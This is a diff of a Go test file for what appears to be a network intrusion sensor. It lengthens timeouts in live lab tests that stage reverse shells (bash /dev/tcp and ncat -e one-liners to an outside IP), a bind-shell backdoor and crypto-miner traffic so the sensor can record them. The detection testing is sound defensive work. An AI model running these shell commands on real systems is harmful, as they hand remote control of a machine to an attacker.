@@ -259,31 +259,31 @@ func TestReverseShellLive(t *testing.T) {
 	dir := t.TempDir()
 	sensor := l.sensor(t)
 
-	attacker := l.run(t, l.out, 20*time.Second, dir, "ncat", "-l", "4444")
+	attacker := l.run(t, l.out, 40*time.Second, dir, "ncat", "-l", "4444")
 	l.listening(t, l.out, 4444)
-	victim := l.run(t, l.in, 20*time.Second, dir, "bash", "-c", "bash -i >& /dev/tcp/"+outsideIP+"/4444 0>&1")
+	victim := l.run(t, l.in, 40*time.Second, dir, "bash", "-c", "bash -i >& /dev/tcp/"+outsideIP+"/4444 0>&1")
 	attacker.say(time.Second, "id", "uname -a", "exit")
-	victim.wait(t, 10*time.Second)
-	attacker.wait(t, 10*time.Second)
+	victim.wait(t, 30*time.Second)
+	attacker.wait(t, 30*time.Second)
 	if !strings.Contains(attacker.out.String(), "uid=") {
 		t.Fatalf("the shell did not answer id:\n%s", attacker.out.String())
 	}
 
 	// sh -i: the shell of /bin/sh (dash on Debian) complains that it has
 	// no terminal, its program name and line number first ("sh: 0: ").
-	attacker3 := l.run(t, l.out, 20*time.Second, dir, "ncat", "-l", "4446")
+	attacker3 := l.run(t, l.out, 40*time.Second, dir, "ncat", "-l", "4446")
 	l.listening(t, l.out, 4446)
-	victim3 := l.run(t, l.in, 20*time.Second, dir, "bash", "-c", "sh -i >& /dev/tcp/"+outsideIP+"/4446 0>&1")
+	victim3 := l.run(t, l.in, 40*time.Second, dir, "bash", "-c", "sh -i >& /dev/tcp/"+outsideIP+"/4446 0>&1")
 	attacker3.say(time.Second, "id", "exit")
-	victim3.wait(t, 10*time.Second)
-	attacker3.wait(t, 10*time.Second)
+	victim3.wait(t, 30*time.Second)
+	attacker3.wait(t, 30*time.Second)
 
-	attacker2 := l.run(t, l.out, 20*time.Second, dir, "ncat", "-l", "9001")
+	attacker2 := l.run(t, l.out, 40*time.Second, dir, "ncat", "-l", "9001")
 	l.listening(t, l.out, 9001)
-	victim2 := l.run(t, l.in, 20*time.Second, dir, "ncat", outsideIP, "9001", "-e", "/bin/sh")
+	victim2 := l.run(t, l.in, 40*time.Second, dir, "ncat", outsideIP, "9001", "-e", "/bin/sh")
 	attacker2.say(time.Second, "id", "exit")
-	victim2.wait(t, 10*time.Second)
-	attacker2.wait(t, 10*time.Second)
+	victim2.wait(t, 30*time.Second)
+	attacker2.wait(t, 30*time.Second)
 	time.Sleep(500 * time.Millisecond)
 
 	evs := records(t, sensor)
@@ -319,14 +319,14 @@ func TestBindShellLive(t *testing.T) {
 	l := newEdgeLab(t)
 	dir := t.TempDir()
 	sensor := l.sensor(t)
-	backdoor := l.run(t, l.in, 20*time.Second, dir, "ncat", "-l", "4445", "-e", "/bin/sh")
+	backdoor := l.run(t, l.in, 40*time.Second, dir, "ncat", "-l", "4445", "-e", "/bin/sh")
 	l.listening(t, l.in, 4445)
-	attacker := l.run(t, l.out, 20*time.Second, dir, "ncat", insideIP, "4445")
+	attacker := l.run(t, l.out, 40*time.Second, dir, "ncat", insideIP, "4445")
 	attacker.say(time.Second, "id", "uname -a")
 	time.Sleep(time.Second)
 	_ = attacker.in.Close()
-	attacker.wait(t, 10*time.Second)
-	backdoor.wait(t, 10*time.Second)
+	attacker.wait(t, 30*time.Second)
+	backdoor.wait(t, 30*time.Second)
 	if !strings.Contains(attacker.out.String(), "uid=") {
 		t.Fatalf("the shell did not answer id:\n%s", attacker.out.String())
 	}
@@ -407,11 +407,11 @@ func TestMiningProtocolLive(t *testing.T) {
 	}
 	sensor := l.sensor(t)
 	for _, port := range []int{3333, 443} {
-		pool := l.run(t, l.out, 20*time.Second, dir, "python3", "pool.py", fmt.Sprint(port))
+		pool := l.run(t, l.out, 40*time.Second, dir, "python3", "pool.py", fmt.Sprint(port))
 		l.listening(t, l.out, port)
-		miner := l.run(t, l.in, 20*time.Second, dir, "python3", "miner.py", outsideIP, fmt.Sprint(port))
-		miner.wait(t, 10*time.Second)
-		pool.wait(t, 10*time.Second)
+		miner := l.run(t, l.in, 40*time.Second, dir, "python3", "miner.py", outsideIP, fmt.Sprint(port))
+		miner.wait(t, 30*time.Second)
+		pool.wait(t, 30*time.Second)
 		if !strings.Contains(miner.out.String(), "job bf") {
 			t.Fatalf("the miner got no job on port %d:\n%s", port, miner.out.String())
 		}
